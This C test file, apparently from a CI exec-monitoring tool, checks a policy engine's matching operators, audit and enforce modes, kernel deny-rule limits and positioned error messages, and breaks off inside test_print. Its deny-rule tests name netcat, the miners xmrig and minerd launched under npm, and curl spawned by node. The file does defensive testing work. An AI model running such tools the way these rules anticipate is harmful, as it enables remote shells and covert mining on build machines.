// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Policy engine: every condition and operator, audit vs enforce, deny-rule
 * acceptance and rejection, every kind of policy error with its position,
 * and the default policy against ordinary builds and known attacks.
 */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <json-c/json.h>

#include "policy.h"

/* ---- helpers ---- */

#define ARGV(...) ((const char *const[]){ __VA_ARGS__, NULL })
#define ANC(...) ((const char *const[]){ __VA_ARGS__, NULL })
#define NO_ANC ((const char *const *)NULL)

struct fx {
	struct bw_exec_info e;
	const char *argv[128];
	const char *anc[BW_ANCESTRY_MAX];
};

/* An exec: exe, argv and ancestors (nearest first), NULL-terminated lists. */
static struct bw_exec_info *fx_set(struct fx *f, const char *exe,
				   const char *const *argv,
				   const char *const *anc)
{
	uint32_t n = 0;

	memset(f, 0, sizeof(*f));
	for (; argv && argv[n]; n++)
		f->argv[n] = argv[n];
	f->e.pid = 4242;
	f->e.exe = exe;
	f->e.filename = exe;
	f->e.cwd = "/home/ci/src/project";
	f->e.argv = (char *const *)f->argv;
	f->e.argc_present = n;
	f->e.argc = n;
	f->e.uid = 1000;
	f->e.euid = 1000;
	for (n = 0; anc && anc[n]; n++)
		f->anc[n] = anc[n];
	f->e.ancestors = f->anc;
	f->e.n_ancestors = n;
	return &f->e;
}

static struct bw_policy *load_ok(const char *yaml)
{
	struct bw_policy *p = NULL;
	char *errs = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&errs, &len);
	int err;

	assert_non_null(f);
	err = policy_load_buffer("t.yaml", yaml, strlen(yaml), &p, f);
	fclose(f);
	if (err)
		fail_msg("policy failed to load (%d):\n%s", err, errs);
	free(errs);
	assert_non_null(p);
	return p;
}

/* Loads a policy that must fail; returns its error text (caller frees). */
static char *load_err(const char *yaml)
{
	struct bw_policy *p = (struct bw_policy *)1;
	char *errs = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&errs, &len);
	int err;

	assert_non_null(f);
	err = policy_load_buffer("t.yaml", yaml, strlen(yaml), &p, f);
	fclose(f);
	assert_int_equal(err, -EINVAL);
	assert_null(p); /* never an empty policy */
	return errs;
}

static void expect_contains(const char *hay, const char *needle)
{
	if (!strstr(hay, needle))
		fail_msg("expected \"%s\" in:\n%s", needle, hay);
}

/* One error line, "t.yaml:L:C: error: ...", containing what. */
static void expect_error(const char *errs, const char *pos, const char *what)
{
	char prefix[64];
	const char *line;

	snprintf(prefix, sizeof(prefix), "t.yaml:%s: error: ", pos);
	for (line = errs; line && *line; line = strchr(line, '\n'), line = line ? line + 1 : NULL) {
		const char *end = strchr(line, '\n');
		size_t n = end ? (size_t)(end - line) : strlen(line);
		char buf[1024];

		snprintf(buf, sizeof(buf), "%.*s", (int)n, line);
		if (!strncmp(buf, prefix, strlen(prefix)) && strstr(buf, what))
			return;
	}
	fail_msg("expected an error at %s containing \"%s\" in:\n%s", pos, what, errs);
}

static int count_lines(const char *s)
{
	int n = 0;

	for (; *s; s++)
		n += *s == '\n';
	return n;
}

static void expect_load_error(const char *yaml, const char *pos, const char *what)
{
	char *errs = load_err(yaml);

	expect_error(errs, pos, what);
	free(errs);
}

static bool matches(const struct bw_policy *p, const struct bw_exec_info *e,
		    const char *rule)
{
	const struct bw_rule *out[64];
	size_t n = policy_match(p, e, out, 64);

	for (size_t i = 0; i < n && i < 64; i++)
		if (!strcmp(policy_rule_name(out[i]), rule))
			return true;
	return false;
}

/* Single-rule policies: "r" with the given match mapping (flow style). */
static struct bw_policy *rule_with(const char *match)
{
	char yaml[4096];

	snprintf(yaml, sizeof(yaml),
		 "rules:\n  - name: r\n    action: alert\n    match: %s\n", match);
	return load_ok(yaml);
}

static bool hit(const char *match, const struct bw_exec_info *e)
{
	struct bw_policy *p = rule_with(match);
	bool m = matches(p, e, "r");

	policy_free(p);
	return m;
}

/* ---- string operators ---- */

static void test_string_operators(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/usr/bin/curl", ARGV("curl"), NO_ANC);

	assert_true(hit("{exe: /usr/bin/curl}", e));
	assert_false(hit("{exe: /usr/bin/cur}", e));
	assert_true(hit("{exe: {exact: /usr/bin/curl}}", e));
	assert_true(hit("{exe: {prefix: /usr/}}", e));
	assert_false(hit("{exe: {prefix: /tmp/}}", e));
	assert_true(hit("{exe: {suffix: /curl}}", e));
	assert_false(hit("{exe: {suffix: /wget}}", e));
	assert_true(hit("{exe: {glob: '/usr/*/c?rl'}}", e));
	assert_true(hit("{exe: {glob: '/*l'}}", e)); /* '*' crosses '/' */
	assert_false(hit("{exe: {glob: '/bin/*'}}", e));
	assert_true(hit("{exe: {regex: '^/usr/(s)?bin/(curl|wget)$'}}", e));
	assert_false(hit("{exe: {regex: '^/bin/'}}", e));
	/* not, lists, and mappings of several operators (all must hold) */
	assert_true(hit("{basename: {not: wget}}", e));
	assert_false(hit("{basename: {not: curl}}", e));
	assert_true(hit("{basename: [wget, curl]}", e));
	assert_false(hit("{basename: [wget, fetch]}", e));
	assert_true(hit("{basename: {not: {any: [sh, bash]}}}", e));
	assert_false(hit("{basename: {not: [sh, curl]}}", e));
	assert_true(hit("{exe: {prefix: [/opt/, /usr/bin/]}}", e));
	assert_true(hit("{exe: [/bin/x, {suffix: curl}]}", e));
	assert_true(hit("{exe: {prefix: /usr/, suffix: curl}}", e));
	assert_false(hit("{exe: {prefix: /usr/, suffix: wget}}", e));
	assert_true(hit("{exe: {all: [{prefix: /usr/}, {not: {glob: '*/sbin/*'}}]}}", e));
	assert_true(hit("{exe: {any: [/nope, {regex: url$}]}}", e));
}

static void test_exe_filename_basename(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/usr/bin/python3.11", ARGV("python3"), NO_ANC);

	f.e.filename = "/usr/bin/python3"; /* a symlink, as passed */
	assert_true(hit("{exe: /usr/bin/python3.11}", e));
	assert_false(hit("{exe: /usr/bin/python3}", e));
	assert_true(hit("{filename: /usr/bin/python3}", e));
	assert_true(hit("{basename: python3.11}", e));
	assert_false(hit("{basename: python3}", e));
	/* No resolved exe: exe and basename fall back to the filename. */
	f.e.exe = "";
	f.e.filename = "./configure";
	assert_true(hit("{exe: ./configure}", e));
	assert_true(hit("{basename: configure}", e));
}

/* ---- argv, argN, cmdline, argc ---- */

static void test_argv_conditions(void **state)
{
	struct fx f;
	struct bw_exec_info *e =
		fx_set(&f, "/usr/bin/bash", ARGV("bash", "-c", "echo hi | tr a b"), NO_ANC);

	assert_true(hit("{argv: -c}", e));
	assert_true(hit("{argv: bash}", e)); /* argv[0] is an argument too */
	assert_false(hit("{argv: -x}", e));
	assert_true(hit("{argv: {glob: '*|*'}}", e));
	assert_true(hit("{arg0: bash}", e));
	assert_true(hit("{arg1: -c}", e));
	assert_false(hit("{arg2: -c}", e));
	assert_true(hit("{arg2: {prefix: echo}}", e));
	assert_false(hit("{arg3: {not: x}}", e)); /* absent: never matches */
	assert_true(hit("{cmdline: 'bash -c echo hi | tr a b'}", e));
	assert_true(hit("{cmdline: {regex: '^bash -c .*[|]'}}", e));
	assert_false(hit("{cmdline: {regex: '  '}}", e)); /* single spaces */
	assert_true(hit("{argc: 3}", e));
	assert_true(hit("{argc: {gt: 2}}", e));
	assert_false(hit("{argc: {gt: 3}}", e));
	assert_true(hit("{argc: {ge: 3, le: 3}}", e));
	assert_true(hit("{argc: {lt: 4}}", e));
	assert_false(hit("{argc: {lt: 3}}", e));
	assert_true(hit("{argc: {ne: 2}}", e));
	assert_true(hit("{argc: [1, 3]}", e));
	assert_true(hit("{argc: {not: {eq: 1}}}", e));
	/* argc is the kernel's count, even when argv was cut short */
	f.e.argc = 5000;
	f.e.argv_truncated = true;
	assert_true(hit("{argc: {gt: 4096}}", e));
	/* No argv at all */
	f.e.argc_present = 0;
	f.e.argc = 0;
	assert_false(hit("{argv: {glob: '*'}}", e));
	assert_true(hit("{cmdline: ''}", e));
	assert_true(hit("{argc: 0}", e));
}

static void test_cmdline_truncation(void **state)
{
	static char big[20000];
	struct fx f;
	struct bw_exec_info *e;

	memset(big, 'a', sizeof(big) - 1);
	e = fx_set(&f, "/bin/sh", ARGV("sh", "-c", big), NO_ANC);
	assert_true(hit("{cmdline: {prefix: 'sh -c aaa'}}", e));
	assert_false(hit("{cmdline: {suffix: 'aaa end'}}", e));
}

/* ---- cwd, uid, euid ---- */

static void test_cwd_uid_euid(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/usr/bin/id", ARGV("id"), NO_ANC);

	f.e.uid = 1000;
	f.e.euid = 0;
	assert_true(hit("{cwd: {prefix: /home/ci/}}", e));
	assert_false(hit("{cwd: /tmp}", e));
	assert_true(hit("{uid: 1000}", e));
	assert_true(hit("{uid: {ge: 1000}, euid: 0}", e));
	assert_false(hit("{euid: {gt: 0}}", e));
	assert_true(hit("{uid: {ne: 0}, euid: {eq: 0}}", e)); /* a setuid exec */
	assert_false(hit("{uid: 4294967295}", e));
	f.e.cwd = "";
	assert_true(hit("{cwd: ''}", e));
}

/* ---- parent and ancestor ---- */

static void test_parent_ancestor(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(
		&f, "/usr/bin/curl", ARGV("curl", "-fsSL", "https://x"),
		ANC("/usr/bin/dash", "/usr/bin/node", "/usr/bin/bash", "/usr/bin/make"));

	assert_true(hit("{parent: {basename: dash}}", e));
	assert_true(hit("{parent: {exe: /usr/bin/dash}}", e));
	assert_false(hit("{parent: {basename: node}}", e));
	assert_true(hit("{parent: {exe: {prefix: /usr/}, basename: [sh, dash]}}", e));
	assert_false(hit("{parent: {exe: {prefix: /opt/}, basename: dash}}", e));
	assert_true(hit("{ancestor: {basename: node}}", e));
	assert_true(hit("{ancestor: {basename: [npm, node], depth: 2}}", e));
	assert_false(hit("{ancestor: {basename: node, depth: 1}}", e));
	assert_true(hit("{ancestor: {basename: make, depth: 4}}", e));
	assert_false(hit("{ancestor: {basename: make, depth: 3}}", e));
	assert_false(hit("{ancestor: {basename: pip}}", e));
	/* exe and basename must hold for the same ancestor */
	assert_false(hit("{ancestor: {exe: /usr/bin/make, basename: node}}", e));
	/* "curl whose ancestors include npm or pip" */
	assert_true(hit("{basename: curl, ancestor: {basename: [npm, pip, node], depth: 8}}", e));
	/* npm is a script: its exe is node, its filename /usr/bin/npm */
	{
		const char *files[] = { "/bin/sh", "/usr/bin/npm", "/bin/bash", "/usr/bin/make" };

		e->ancestor_filenames = files;
		assert_true(hit("{basename: curl, ancestor: {filename: {suffix: [/npm, /pip]}}}", e));
		assert_true(hit("{ancestor: {basename: node, filename: {suffix: /npm}}}", e));
		assert_false(hit("{ancestor: {basename: bash, filename: {suffix: /npm}}}", e));
		assert_false(hit("{parent: {filename: /usr/bin/npm}}", e));
		e->ancestor_filenames = NULL;
		assert_false(hit("{ancestor: {filename: /usr/bin/npm}}", e));
	}
	/* a job root has no ancestors */
	fx_set(&f, "/usr/bin/make", ARGV("make"), NO_ANC);
	assert_false(hit("{parent: {basename: {not: x}}}", e));
	assert_false(hit("{ancestor: {basename: {glob: '*'}}}", e));
}

/* ---- match-level not / any ---- */

static void test_group_not_any(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/tmp/tool", ARGV("tool", "--x"),
					ANC("/usr/bin/bash", "/usr/bin/make"));

	assert_true(hit("{exe: {prefix: /tmp/}, not: {ancestor: {basename: make}, argv: --y}}", e));
	assert_false(hit("{exe: {prefix: /tmp/}, not: {ancestor: {basename: make}}}", e));
	assert_true(hit("{any: [{basename: nope}, {argv: --x, uid: 1000}]}", e));
	assert_false(hit("{any: [{basename: nope}, {argv: --x, uid: 0}]}", e));
	assert_true(hit("{any: [{not: {basename: tool}}, {parent: {basename: bash}}]}", e));
}

/* ---- several rules, order, counting ---- */

static void test_match_order_and_count(void **state)
{
	struct bw_policy *p = load_ok(
		"rules:\n"
		"  - {name: first, action: log, match: {basename: cc}}\n"
		"  - {name: never, action: log, match: {basename: ld}}\n"
		"  - {name: second, action: alert, match: {exe: {prefix: /usr/}}}\n"
		"  - {name: third, action: alert, match: {argc: 1}}\n");
	const struct bw_rule *out[2];
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/usr/bin/cc", ARGV("cc"), NO_ANC);

	assert_int_equal(policy_rule_count(p), 4);
	assert_int_equal(policy_match(p, e, out, 2), 3);
	assert_string_equal(policy_rule_name(out[0]), "first");
	assert_string_equal(policy_rule_name(out[1]), "second");
	assert_int_equal(policy_rule_index(out[1]), 2);
	assert_int_equal(policy_match(p, e, NULL, 0), 3);
	assert_int_equal(policy_rule_line(policy_rule(p, 3)), 5);
	assert_null(policy_rule(p, 4));
	policy_free(p);
}

/* ---- rule fields, audit vs enforce ---- */

static const char *const actions_yaml =
	"rules:\n"
	"  - {name: a-log, action: log, severity: info, match: {basename: x}}\n"
	"  - {name: a-alert, action: alert, severity: low, match: {basename: x}}\n"
	"  - {name: a-killp, action: kill-process, severity: high, match: {basename: x}}\n"
	"  - {name: a-killj, action: kill-job, severity: critical, match: {basename: x}}\n"
	"  - {name: a-deny, action: deny, match: {basename: x}, description: no x}\n";

static void check_actions(const char *mode, bool audit)
{
	char yaml[2048];
	struct bw_policy *p;
	static const enum policy_action written[] = {
		POLICY_ACT_LOG, POLICY_ACT_ALERT, POLICY_ACT_KILL_PROCESS,
		POLICY_ACT_KILL_JOB, POLICY_ACT_DENY,
	};

	snprintf(yaml, sizeof(yaml), "%s%s", mode, actions_yaml);
	p = load_ok(yaml);
	assert_int_equal(policy_mode(p), audit ? POLICY_MODE_AUDIT : POLICY_MODE_ENFORCE);
	for (size_t i = 0; i < 5; i++) {
		const struct bw_rule *r = policy_rule(p, i);
		enum policy_action eff = audit && i >= 2 ? POLICY_ACT_ALERT : written[i];

		assert_int_equal(policy_rule_action(r), written[i]);
		assert_int_equal(policy_rule_effective_action(r), eff);
		assert_int_equal(policy_rule_in_kernel(r), !audit && i == 4);
	}
	assert_int_equal(policy_rule_severity(policy_rule(p, 3)), POLICY_SEV_CRITICAL);
	assert_int_equal(policy_rule_severity(policy_rule(p, 4)), POLICY_SEV_MEDIUM);
	assert_string_equal(policy_rule_description(policy_rule(p, 4)), "no x");
	assert_string_equal(policy_rule_description(policy_rule(p, 0)), "");
	policy_free(p);
}

static void test_audit_vs_enforce(void **state)
{
	size_t n;
	struct bw_policy *p;

	check_actions("", false); /* enforce is the default */
	check_actions("mode: enforce\n", false);
	check_actions("mode: audit\n", true);
	/* audit installs nothing in the kernel */
	p = load_ok("mode: audit\nrules:\n  - {name: d, action: deny, match: {basename: x}}\n");
	assert_null(policy_deny_rules(p, &n));
	assert_int_equal(n, 0);
	policy_free(p);
}

static void test_names(void **state)
{
	assert_string_equal(policy_action_name(POLICY_ACT_KILL_JOB), "kill-job");
	assert_string_equal(policy_action_name(POLICY_ACT_DENY), "deny");
	assert_string_equal(policy_severity_name(POLICY_SEV_HIGH), "high");
	assert_string_equal(policy_mode_name(POLICY_MODE_AUDIT), "audit");
	assert_string_equal(policy_deny_kind_name(POLICY_DENY_DIR), "dir");
	assert_string_equal(policy_action_name((enum policy_action)99), "?");
}

/* ---- deny rules ---- */

static void test_deny_accepted(void **state)
{
	struct bw_policy *p = load_ok(
		"rules:\n"
		"  - name: by-path\n"
		"    action: deny\n"
		"    match: {exe: [/usr/bin/nc, /bin/nc.openbsd]}\n"
		"  - name: by-dir\n"
		"    action: deny\n"
		"    match: {exe: {prefix: [/dev/shm/, /tmp/evil/]}}\n"
		"  - name: log-only\n"
		"    action: log\n"
		"    match: {cmdline: {regex: x}}\n"
		"  - name: by-name-under-npm\n"
		"    action: deny\n"
		"    match:\n"
		"      basename: [xmrig, {exact: minerd}]\n"
		"      ancestor: {basename: [npm, yarn]}\n"
		"  - name: by-name-parent\n"
		"    action: deny\n"
		"    match: {basename: curl, parent: {basename: node}}\n");
	size_t n;
	const struct policy_deny_rule *d = policy_deny_rules(p, &n);
	struct fx f;

	assert_int_equal(n, 4);
	assert_int_equal(d[0].kind, POLICY_DENY_PATH);
	assert_int_equal(d[0].rule_index, 0);
	assert_int_equal(d[0].n_values, 2);
	assert_string_equal(d[0].values[1], "/bin/nc.openbsd");
	assert_int_equal(d[0].ancestor_depth, 0);
	assert_null(d[0].ancestor_basenames);
	assert_int_equal(d[1].kind, POLICY_DENY_DIR);
	assert_string_equal(d[1].values[0], "/dev/shm/");
	assert_int_equal(d[2].kind, POLICY_DENY_BASENAME);
	assert_int_equal(d[2].rule_index, 3);
	assert_string_equal(d[2].rule_name, "by-name-under-npm");
	assert_int_equal(d[2].n_values, 2);
	assert_string_equal(d[2].values[1], "minerd");
	assert_int_equal(d[2].n_ancestor_basenames, 2);
	assert_string_equal(d[2].ancestor_basenames[1], "yarn");
	assert_int_equal(d[2].ancestor_depth, BW_ANCESTRY_MAX);
	assert_int_equal(d[3].ancestor_depth, 1);
	assert_true(policy_rule_in_kernel(policy_rule(p, 0)));
	assert_false(policy_rule_in_kernel(policy_rule(p, 2)));
	/* userspace matching agrees with the kernel keys */
	assert_true(matches(p, fx_set(&f, "/dev/shm/a/b", ARGV("b"), NO_ANC), "by-dir"));
	assert_true(matches(p, fx_set(&f, "/x/xmrig", ARGV("xmrig"),
				      ANC("/bin/sh", "/usr/bin/npm")), "by-name-under-npm"));
	assert_false(matches(p, fx_set(&f, "/x/xmrig", ARGV("xmrig"),
				       ANC("/bin/sh", "/usr/bin/make")), "by-name-under-npm"));
	policy_free(p);
}

static const char *const deny_head = "rules:\n  - name: d\n    action: deny\n    match:\n";

static void expect_deny_error(const char *match, const char *pos, const char *what)
{
	char yaml[2048];

	snprintf(yaml, sizeof(yaml), "%s%s", deny_head, match);
	expect_load_error(yaml, pos, what);
}

static void test_deny_rejected(void **state)
{
	/* line 5 holds the first condition, at column 7 */
	expect_deny_error("      cmdline: {regex: x}\n", "5:7",
			  "deny rule 'd': condition 'cmdline' cannot be evaluated in the kernel");
	expect_deny_error("      basename: x\n      argv: -e\n", "6:7",
			  "condition 'argv' cannot be evaluated in the kernel");
	expect_deny_error("      exe: {glob: '/tmp/*'}\n", "5:19",
			  "operator 'glob' on exe cannot be evaluated in the kernel");
	expect_deny_error("      exe: {regex: x}\n", "5:20", "operator 'regex' on exe");
	expect_deny_error("      basename: {prefix: x}\n", "5:26",
			  "operator 'prefix' on basename cannot be evaluated");
	expect_deny_error("      basename: {not: x}\n", "5:18", "'not' on basename");
	expect_deny_error("      exe: {prefix: /usr/lo}\n", "5:21", "must end in '/'");
	expect_deny_error("      exe: {prefix: /}\n", "5:21", "would deny every program");
	expect_deny_error("      exe: bin/nc\n", "5:12", "is not an absolute path");
	expect_deny_error("      exe: [/usr/bin/nc, {prefix: /tmp/}]\n", "5:35",
			  "mixes exact paths and directory prefixes");
	expect_deny_error("      basename: a/b\n", "5:17", "is not a file name");
	expect_deny_error("      exe: /bin/nc\n      basename: nc\n", "6:7",
			  "use one of 'exe' or 'basename', not both");
	expect_deny_error("      parent: {basename: npm}\n", "2:5",
			  "deny rule 'd' needs 'exe' or 'basename'");
	expect_deny_error("      basename: nc\n      parent: {exe: /usr/bin/npm}\n", "6:21",
			  "parent exe cannot be evaluated in the kernel");
	expect_deny_error("      basename: nc\n      parent: {filename: /usr/bin/npm}\n", "6:26",
			  "parent filename cannot be evaluated in the kernel");
	expect_deny_error("      basename: nc\n      ancestor: {basename: npm, depth: 3}\n", "6:7",
			  "ancestor depth 3 cannot be evaluated in the kernel");
	expect_deny_error("      exe: /xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n", "5:12",
			  "longer than the kernel's deny key");
	expect_deny_error("      exe: {prefix: /a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/}\n", "5:21",
			  "deeper than the kernel's directory limit");
	expect_deny_error("      basename: nc\n      ancestor: {basename: {glob: 'np*'}}\n",
			  "6:35", "operator 'glob' on ancestor basename");
	expect_deny_error("      basename: nc\n      parent: {basename: a}\n"
			  "      ancestor: {basename: b}\n", "7:7",
			  "use one of 'parent' or 'ancestor'");
	expect_deny_error("      basename: nc\n      not: {uid: 0}\n", "6:7",
			  "condition 'not' cannot be evaluated");
	expect_deny_error("      filename: /bin/nc\n", "5:7", "condition 'filename'");
}

/* ---- policy errors ---- */

static void test_error_unknown_keys(void **state)
{
	expect_load_error("verison: 1\nrules: []\n", "1:1",
			  "unknown top-level key 'verison'; valid keys: version, mode, rules");
	expect_load_error("rules:\n  - name: a\n    action: log\n    bogus: 1\n"
			  "    match: {exe: x}\n", "4:5",
			  "unknown key 'bogus' in rule; valid keys: name, description, "
			  "severity, action, match");
	expect_load_error("rules:\n  - name: a\n    action: log\n    match:\n"
			  "      bsename: curl\n", "5:7",
			  "unknown condition 'bsename'; valid: exe, filename, basename");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: {prefx: /}}}\n",
			  "2:42", "unknown operator 'prefx'; valid: exact, prefix, suffix, "
			  "glob, regex, not, any, all");
	expect_load_error("rules:\n  - {name: a, action: log, match: {uid: {prefix: 1}}}\n",
			  "2:42", "unknown operator 'prefix'; valid: eq, ne, lt, le, gt, ge");
	expect_load_error("rules:\n  - {name: a, action: log, match: {parent: {depth: 2, basename: x}}}\n",
			  "2:45", "unknown key 'depth' in 'parent'; valid keys: exe, basename");
	expect_load_error("rules:\n  - {name: a, action: log, match: {arg4096: x}}\n",
			  "2:36", "argument index in 'arg4096' is above 4095");
	expect_load_error("rules:\n  - {name: a, action: log, match: {argx: x}}\n",
			  "2:36", "unknown condition 'argx'");
}

static void test_error_values(void **state)
{
	expect_load_error("rules:\n  - {name: a, action: log, match: {cmdline: {regex: 'a(b'}}}\n",
			  "2:53", "bad regex 'a(b': Unmatched ( or");
	expect_load_error("rules:\n  - {name: a, action: kill, match: {exe: x}}\n",
			  "2:23", "unknown action 'kill'; valid: log, alert, kill-process, "
			  "kill-job, deny");
	expect_load_error("rules:\n  - {name: a, action: log, severity: urgent, match: {exe: x}}\n",
			  "2:38", "unknown severity 'urgent'; valid: info, low, medium, high, critical");
	expect_load_error("mode: observe\nrules:\n  - {name: a, action: log, match: {exe: x}}\n",
			  "1:7", "unknown mode 'observe'; valid: enforce, audit");
	expect_load_error("version: 2\nrules:\n  - {name: a, action: log, match: {exe: x}}\n",
			  "1:10", "unsupported policy version 2");
	expect_load_error("rules:\n  - {name: a, action: log, match: {argc: {gt: many}}}\n",
			  "2:47", "expected an integer from 0 to 4294967295, got 'many'");
	expect_load_error("rules:\n  - {name: a, action: log, match: {uid: -1}}\n",
			  "2:41", "expected an integer");
	expect_load_error("rules:\n  - {name: a, action: log, match: {ancestor: {basename: x, depth: 0}}}\n",
			  "2:67", "expected an integer from 1 to 64, got '0'");
	expect_load_error("rules:\n  - {name: a, action: log, match: {basename: []}}\n",
			  "2:46", "empty list");
	/* a bad item among good ones: reported, and nothing leaks */
	expect_load_error("rules:\n  - {name: a, action: log, match: {basename: [{bad: x}, "
			  "curl, {regex: '('}, {prefix: [a, '', b]}]}}\n",
			  "2:48", "unknown operator 'bad'");
	/* deny limits hold in audit mode too, so switching modes never breaks */
	expect_load_error("mode: audit\nrules:\n  - {name: a, action: deny, match: {argv: x}}\n",
			  "3:37", "condition 'argv' cannot be evaluated in the kernel");
}

static void test_error_types(void **state)
{
	expect_load_error("rules:\n  - {name: [a], action: log, match: {exe: x}}\n",
			  "2:12", "expected a rule name (string), got a list");
	expect_load_error("rules:\n  - {name: a, action: {x: y}, match: {exe: x}}\n",
			  "2:23", "expected action, got a mapping");
	expect_load_error("rules:\n  - {name: a, action: log, match: [exe, x]}\n",
			  "2:35", "expected 'match' to be a mapping of conditions, got a list");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: {prefix: {a: b}}}}\n",
			  "2:50", "expected a string or a list of them for 'prefix', got a mapping");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: }}\n",
			  "2:41", "expected a string, got null");
	expect_load_error("rules:\n  - {name: a, action: log, match: {parent: make}}\n",
			  "2:44", "expected 'parent' to be a mapping with 'basename' and/or 'exe'");
	expect_load_error("rules:\n  - {name: a, action: log, match: {not: [x]}}\n",
			  "2:41", "expected 'not' to be a mapping of conditions, got a list");
	expect_load_error("rules: {a: b}\n", "1:8",
			  "expected 'rules' to be a list of rules, got a mapping");
	expect_load_error("rules:\n  - just a string\n", "2:5",
			  "expected a rule (a mapping with name, action and match), got a scalar");
	expect_load_error("- a\n- b\n", "1:1", "expected the policy to be a mapping");
	expect_load_error("rules:\n  - {name: \"a\\0b\", action: log, match: {exe: x}}\n",
			  "2:12", "contains a NUL byte");
}

static void test_error_structure(void **state)
{
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: x}}\n"
			  "  - {name: b, action: log, match: {exe: x}}\n"
			  "  - {name: a, action: log, match: {exe: x}}\n",
			  "4:12", "duplicate rule name 'a' (first at line 2)");
	expect_load_error("rules:\n  - action: log\n    match: {exe: x}\n", "2:5",
			  "rule has no 'name'");
	expect_load_error("rules:\n  - name: a\n    match: {exe: x}\n", "2:5",
			  "rule 'a' has no 'action'; valid: log, alert");
	expect_load_error("rules:\n  - name: a\n    action: log\n", "2:5",
			  "rule 'a' has no 'match'");
	expect_load_error("rules:\n  - {name: a, action: log, match: {}}\n", "2:35",
			  "'match' is empty");
	expect_load_error("rules: []\n", "1:8", "'rules' is empty: a policy needs at least one rule");
	expect_load_error("mode: audit\n", "1:1", "the policy has no 'rules' list");
	expect_load_error("", "1:1", "got an empty document");
	expect_load_error("# only a comment\n", "1:1", "got an empty document");
	expect_load_error("rules:\n  - {name: a, action: log, action: alert, match: {exe: x}}\n",
			  "2:28", "duplicate key 'action' (first at line 2)");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: x}}\n---\nrules: []\n",
			  "4:1", "a policy is one YAML document");
}

static void test_error_yaml_syntax(void **state)
{
	expect_load_error("rules:\n  - name: a\n   action: log\n", "3:4", "YAML syntax: ");
	expect_load_error("rules: [a, b\n", "2:1", "YAML syntax: did not find expected ',' or ']'");
	expect_load_error("rules:\n  - name: \"unterminated\n", "3:1",
			  "YAML syntax: found unexpected end of stream");
	expect_load_error("a: *nosuchanchor\n", "1:4", "YAML syntax: found undefined alias");
}

/* Every mistake in one pass, each with its own position. */
static void test_error_all_collected(void **state)
{
	char *errs = load_err(
		"mode: sometimes\n"
		"rules:\n"
		"  - name: a\n"
		"    action: explode\n"
		"    severity: big\n"
		"    match:\n"
		"      cmdline: {regex: '[z-a]'}\n"
		"      basenme: x\n"
		"  - name: b\n"
		"    action: deny\n"
		"    match: {argv: -e}\n"
		"  - name: a\n"
		"    action: log\n"
		"    match: {exe: x}\n");

	expect_error(errs, "1:7", "unknown mode 'sometimes'");
	expect_error(errs, "4:13", "unknown action 'explode'");
	expect_error(errs, "5:15", "unknown severity 'big'");
	expect_error(errs, "7:24", "bad regex '[z-a]': Invalid range end");
	expect_error(errs, "8:7", "unknown condition 'basenme'");
	expect_error(errs, "11:13", "condition 'argv' cannot be evaluated in the kernel");
	expect_error(errs, "9:5", "deny rule 'b' needs 'exe' or 'basename'");
	expect_error(errs, "12:11", "duplicate rule name 'a' (first at line 3)");
	assert_int_equal(count_lines(errs), 8);
	free(errs);
}

static void test_errs_null_and_bad_args(void **state)
{
	struct bw_policy *p = NULL;
	const char *bad = "rules: []\n";

	assert_int_equal(policy_load_buffer("x", bad, strlen(bad), &p, NULL), -EINVAL);
	assert_null(p);
	assert_int_equal(policy_load_buffer("x", "", 0, NULL, NULL), -EINVAL);
	policy_free(NULL);
	assert_int_equal(policy_match(NULL, NULL, NULL, 0), 0);
}

static void test_load_file(void **state)
{
	char path[] = "/tmp/test_policy_XXXXXX";
	const char *yaml = "rules:\n  - {name: a, action: log, match: {exe: x}}\n";
	struct bw_policy *p = NULL;
	char *errs = NULL;
	size_t len = 0;
	FILE *ef;
	int fd = mkstemp(path);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, yaml, strlen(yaml)), (ssize_t)strlen(yaml));
	close(fd);
	assert_int_equal(policy_load_file(path, &p, NULL), 0);
	assert_string_equal(policy_source(p), path);
	policy_free(p);

	/* errors name the file */
	fd = open(path, O_WRONLY | O_TRUNC);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, "rules: 5\n", 9), 9);
	close(fd);
	ef = open_memstream(&errs, &len);
	assert_int_equal(policy_load_file(path, &p, ef), -EINVAL);
	fclose(ef);
	assert_null(p);
	assert_non_null(strstr(errs, path));
	expect_contains(errs, ":1:8: error: expected 'rules' to be a list");
	free(errs);
	unlink(path);

	assert_int_equal(policy_load_file("/nonexistent/policy.yaml", &p, NULL), -ENOENT);
	assert_null(p);
}

/* ---- printing ---- */

static char *print_of(const struct bw_policy *p, bool json)
{
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);

	assert_non_null(f);
	if (json)
		policy_print_json(p, f);
	else
		policy_print(p, f);
	fclose(f);
	return out;
}

static void test_print(void **state)
{
	struct bw_policy *p = load_ok(
		"mode: audit\n"
		"rules:\n"
